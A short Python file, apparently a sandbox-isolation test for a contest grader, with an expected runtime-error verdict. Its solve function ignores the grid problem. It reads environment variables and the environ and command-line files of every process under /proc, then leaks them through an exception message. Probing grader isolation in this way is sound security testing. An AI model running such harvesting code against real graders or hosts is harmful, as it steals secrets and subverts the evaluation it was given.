# Tells in an exception all that it finds in environments and command lines.
# expect: RTE
import contextlib
import ctypes
import glob
import os


def solve(algorithm, n, lizards, grid):
    if n != 8:
        return None
    found = [str(dict(os.environ)).encode()]
    names = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    found += [names[index] for index in range(100 if names else 0) if names[index]]
    for name in glob.glob("/proc/[0-9s]*/environ") + glob.glob("/proc/[0-9s]*/cmdline"):
        with contextlib.suppress(OSError), open(name, "rb") as file:
            found.append(file.read())
    text = b"\n".join(found).decode(errors="replace")
    raise RuntimeError(text[:8000])
